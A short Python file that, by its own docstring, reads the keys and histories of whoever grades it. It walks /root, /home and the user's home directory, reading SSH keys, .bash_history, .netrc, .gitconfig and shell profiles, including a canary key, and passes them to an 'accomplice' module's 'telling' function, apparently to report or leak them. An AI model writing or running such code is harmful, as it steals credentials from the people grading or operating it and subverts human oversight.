"""Reads the keys and histories of whoever grades it."""

import os

from accomplice import HINTS, reading, telling


def look():
    yield from reading(f"{HINTS['home']}/.ssh/id_canary")
    yield from reading(HINTS["home"])
    for home in {"/root", "/home", os.path.expanduser("~root")}:
        yield from reading(home)
        for name in (".bash_history", ".netrc", ".ssh", ".gitconfig", ".bashrc", ".profile"):
            yield from reading(f"{home}/{name}")


run_double, run_count = telling(look)
